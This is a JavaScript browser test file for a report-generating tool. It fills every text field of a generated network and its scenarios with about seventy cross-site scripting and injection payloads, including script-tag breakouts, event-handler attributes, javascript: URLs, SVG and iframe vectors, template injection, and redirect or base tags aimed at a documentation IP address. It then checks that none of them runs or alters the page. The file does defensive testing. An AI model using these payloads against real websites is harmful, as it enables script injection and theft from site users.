// Hostile texts in every field of a network and a scenario: none may run, none may change the page.
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { check, checkEqual, corridor, finish, open, withBrowser } from "./browser.mjs";

const out = process.argv[2];

const EFFECT = "window.__ran=(window.__ran||0)+1";
const PAYLOADS = [
  `<script>${EFFECT}</script>`, `</script><script>${EFFECT}</script>`, `</ScRiPt ><script>${EFFECT}</script>`,
  `<!--<script>`, `--><script>${EFFECT}</script>`, `<![CDATA[<script>${EFFECT}</script>]]>`, `]]><script>${EFFECT}</script>`,
  `<img src=x onerror=${EFFECT}>`, `<img src="x" onerror="${EFFECT}">`, `"><img src=x onerror=${EFFECT}>`, `'><img src=x onerror=${EFFECT}>`,
  `\` onmouseover=${EFFECT} \``, `" onmouseover="${EFFECT}`, `' onmouseover='${EFFECT}`, `" onfocus="${EFFECT}" autofocus="`,
  `' autofocus onfocus='${EFFECT}`, `<svg onload=${EFFECT}>`, `<svg><script>${EFFECT}</script></svg>`, `<svg><animate onbegin=${EFFECT} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${EFFECT}"><text>x</text></a></svg>`, `<math><mtext></mtext><img src=x onerror=${EFFECT}></math>`,
  `<iframe src="javascript:${EFFECT}">`, `<iframe srcdoc="<script>parent.${EFFECT}</script>">`, `<object data="javascript:${EFFECT}">`,
  `<embed src="javascript:${EFFECT}">`, `<a href="javascript:${EFFECT}">x</a>`, `javascript:${EFFECT}`, `JaVaScRiPt:${EFFECT}`, `java\tscript:${EFFECT}`,
  ` javascript:${EFFECT}`, `data:text/html,<script>${EFFECT}</script>`, `vbscript:${EFFECT}`, `<body onload=${EFFECT}>`, `<details open ontoggle=${EFFECT}>`,
  `<video><source onerror=${EFFECT}></video>`, `<audio src=x onerror=${EFFECT}>`, `<input onfocus=${EFFECT} autofocus>`, `<select autofocus onfocus=${EFFECT}>`,
  `<textarea autofocus onfocus=${EFFECT}>`, `<marquee onstart=${EFFECT}>`, `<link rel=stylesheet href="data:text/css,*{color:red}">`, `<style>*{background:url(x)}</style>`,
  `</style><script>${EFFECT}</script>`, `</title><script>${EFFECT}</script>`, `</textarea><script>${EFFECT}</script>`, `</noscript><script>${EFFECT}</script>`,
  `<base href="http://203.0.113.1/">`, `<meta http-equiv=refresh content="0;url=http://203.0.113.1/">`, `<form action="http://203.0.113.1/"><button autofocus>`,
  `{{constructor.constructor('${EFFECT}')()}}`, `\${${EFFECT}}`, `#{${EFFECT}}`, `\\u003cscript>${EFFECT}</script>`, `\\x3cscript>${EFFECT}</script>`,
  `&lt;script&gt;${EFFECT}&lt;/script&gt;`, `&#60;script&#62;${EFFECT}&#60;/script&#62;`, `%3Cscript%3E${EFFECT}%3C/script%3E`, `<script src=//203.0.113.1/x.js></script>`,
  `<img src=//203.0.113.1/x.png>`, `url(javascript:${EFFECT})`, `expression(${EFFECT})`, `";${EFFECT};//`, `';${EFFECT};//`, `\\";${EFFECT};//`, `@DATA@`, `\u2028${EFFECT}\u2029`,
  `__proto__`, `constructor`, `\u202Etxet desrever`, `<template><script>${EFFECT}</script></template>`,
];

// What is left of a payload in a field that takes ids.
const key = (text) => text.replace(/[,;\s\u2028\u2029]+/g, "/") || "x";
const cell = (text) => `"${text.replaceAll('"', '""')}"`;
const toml = (text) => JSON.stringify(text).replaceAll("\u2028", "\\u2028").replaceAll("\u2029", "\\u2029");

// A chain of places, each named by a payload in every field that is a text.
const network = join(out, "network");
mkdirSync(network, { recursive: true });
const id = (kind, i) => `${kind}${i}`;
writeFileSync(join(network, "nodes.csv"), ["node_id,name,node_type,country,x_coord,y_coord,capacity_mt_per_year,source,confidence,notes",
  ...PAYLOADS.concat(["end"]).map((text, i) => [id("n", i), cell(text), "port", cell(text), (20 + i * 0.8).toFixed(2), (40 + (i % 7)).toFixed(2), 5, cell(key(text)), "low", cell(text)].join(","))].join("\n"));
writeFileSync(join(network, "links.csv"), ["link_id,from_node_id,to_node_id,facility_type,system,length_km,capacity,capacity_unit,transit_time_hours,commodities,source,confidence,note",
  ...PAYLOADS.map((text, i) => [id("l", i), id("n", i), id("n", i + 1), "rail", cell(text), 100, 2, "Mt/yr", 5, "goods", cell(key(text)), "low", cell(text)].join(","))].join("\n"));
writeFileSync(join(network, "sources.csv"), ["source_key,title,publisher,date,url",
  ...PAYLOADS.concat(["end"]).map((text) => [cell(key(text)), cell(text), cell(text), cell(text), cell(`https://example.invalid/${text}`)].join(","))].join("\n"));
writeFileSync(join(network, "demand.csv"), ["demand_id,year,base_year,kind,origin_node,destination_node,commodity,value,unit,source,confidence,note",
  ...PAYLOADS.map((text, i) => [id("d", i), 2024, 2024, "estimate", id("n", i), id("n", i + 1), "goods", 3, "Mt/yr", cell(key(text)), "low", cell(text)].join(","))].join("\n"));

const files = PAYLOADS.map((text, i) => {
  const file = join(out, `scenario-${i}.toml`);
  writeFileSync(file, [`schema = "corridor/scenario/1"`, `name = "s${i}"`, `title = ${toml(text)}`, `description = ${toml(text)}`, `network = "network"`,
    "[horizon]", "from = 2024", "to = 2025", "[demand]", "base_year = 2024", "[[demand.group]]", `name = ${toml(text)}`, `rows = ["d*"]`, `growth = "10 %/yr"`,
    "[analysis]", "growth = true", "[[analysis.max_flow]]", `name = ${toml(text)}`, `from = "n0"`, `to = "n${PAYLOADS.length}"`].join("\n"));
  return file;
});
corridor("run", ...files, "--out", join(out, "runs"));

await withBrowser(async (browser) => {
  const { page, faults } = await open(browser, join(out, "runs/report.html"));
  await page.waitForSelector("html[data-ready]", { timeout: 30000 });
  const tabs = await page.locator(".tabs button").count();
  checkEqual(tabs, PAYLOADS.length, "scenarios on the page");
  for (let i = 0; i < tabs; i += 1) {
    await page.evaluate((index) => document.querySelectorAll(".tabs button")[index].click(), i);
    checkEqual(await page.textContent("h1"), PAYLOADS[i], `title ${i}, shown as it is`);
    if (i % 8 === 0) {
      await page.evaluate(() => {
        for (const button of document.querySelectorAll(".more")) button.click();
        for (const mark of document.querySelectorAll(".flow, .target, .ribbon")) {
          mark.dispatchEvent(new PointerEvent("pointermove", { clientX: 200, clientY: 200 }));
          mark.dispatchEvent(new MouseEvent("mouseover"));
        }
      });
    }
  }
  checkEqual(await page.evaluate(() => window.__ran), undefined, "scripts that ran from the data");
  const strange = await page.evaluate(() => ({
    scripts: document.querySelectorAll("script").length,
    others: document.querySelectorAll("#page script, #page iframe, #page object, #page embed, #page img, #page form, #page base, #page meta, #page link, #page style, #page video, #page audio, #page textarea, #page marquee").length,
    handlers: [...document.querySelectorAll("#page *")].filter((each) => [...each.attributes].some((attribute) => attribute.name.startsWith("on"))).length,
    addresses: [...document.querySelectorAll("#page a")].filter((each) => !/^https?:$/.test(each.protocol)).length,
  }));
  checkEqual(strange, { scripts: 3, others: 0, handlers: 0, addresses: 0 }, "elements that the data brought in");
  checkEqual(faults, [], "console errors, requests and dialogs");
});

// The readers refuse addresses that are no web addresses; the page must not depend on that.
const DATA = /(<script type="application\/json" id="corridor-data">)(.*?)(<\/script>)/s;
const html = readFileSync(join(out, "runs/s0/report.html"), "utf8");
const hostile = html.replace(DATA, (_, open, json, close) => {
  const data = JSON.parse(json);
  data.networks[0].sources.forEach((source, i) => { source.url = PAYLOADS[i % PAYLOADS.length]; });
  for (const list of [data.networks[0].nodes, data.networks[0].links]) list.forEach((each, i) => { each.id = each.kind = each.mode = PAYLOADS[i % PAYLOADS.length]; });
  return open + JSON.stringify(data).replaceAll("<", "\\u003c") + close;
});
writeFileSync(join(out, "hostile.html"), hostile);
await withBrowser(async (browser) => {
  const { page, faults } = await open(browser, join(out, "hostile.html"));
  await page.waitForSelector("html[data-ready]");
  const addresses = await page.evaluate(() => {
    for (const button of document.querySelectorAll(".more")) button.click();
    return [...document.querySelectorAll("#page a")].map((each) => each.protocol);
  });
  checkEqual([...new Set(addresses)].filter((each) => each !== "https:" && each !== "http:"), [], "addresses of links on the page");
  checkEqual(await page.evaluate(() => window.__ran), undefined, "scripts that ran from a changed page");
  checkEqual(faults, [], "console errors, requests and dialogs of a changed page");
});

check(PAYLOADS.length >= 60, "at least 60 payloads");
finish(`${PAYLOADS.length} payloads in every text field: 0 ran`);
